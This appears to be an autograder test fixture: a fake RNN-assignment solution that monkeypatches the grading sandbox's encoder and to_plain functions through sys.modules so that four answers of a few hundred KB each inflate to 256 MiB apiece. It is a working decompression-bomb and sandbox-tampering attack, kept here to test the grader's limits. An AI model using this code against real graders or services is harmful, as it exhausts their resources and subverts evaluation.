# Four answers of a few hundred KB each that inflate to 256 MiB apiece in the grader: the sandbox's own encoder
# is replaced (it is reachable through sys.modules) by one that sends a deflated .npz of zeros, and to_plain by
# the identity, so the child never holds the array. Where that encoder is not reachable, the answer is a
# 256 MiB broadcast view of zeros (what a compressing wire would deflate to almost nothing).
# assignment: 02_rnn
# class: limits
# expect-zero: ch02_rnn_forward
# %% ch02-ex2-solution
import io, sys
import numpy as np

_N = 1 << 25  # float64 elements: 256 MiB
_bomb = {}
_sent = [0]


def _payload():
    if "z" not in _bomb:
        buf = io.BytesIO()
        np.savez_compressed(buf, a0=np.broadcast_to(np.float64(0), (_N,)))
        _bomb["z"] = buf.getvalue()
    return _bomb["z"]


for _name, _mod in list(sys.modules.items()):
    if _name.endswith("wire") and hasattr(_mod, "encode"):
        _real_encode = _mod.encode

        def _encode(value, *args, _real=_real_encode, **kwargs):
            if isinstance(value, tuple) and len(value) == 1 and getattr(value[0], "shape", None) == (_N,):
                return {"t": "tuple", "items": [{"t": "arr", "k": "a0"}]}, _payload()
            return _real(value, *args, **kwargs)
        _mod.encode = _encode
for _name in ("__main__", "autograder.sandbox"):
    _mod = sys.modules.get(_name)
    if _mod is not None and hasattr(_mod, "to_plain"):
        _real_plain = _mod.to_plain
        _mod.to_plain = lambda r, _real=_real_plain: (r if isinstance(r, tuple) and len(r) == 1
                                                      and getattr(r[0], "shape", None) == (_N,) else _real(r))


def rnn_forward(x, h0, Wx, Wh, b):
    _sent[0] += 1
    if _sent[0] > 4:
        raise RuntimeError("four are enough")
    return np.broadcast_to(np.float64(0), (_N,)), None
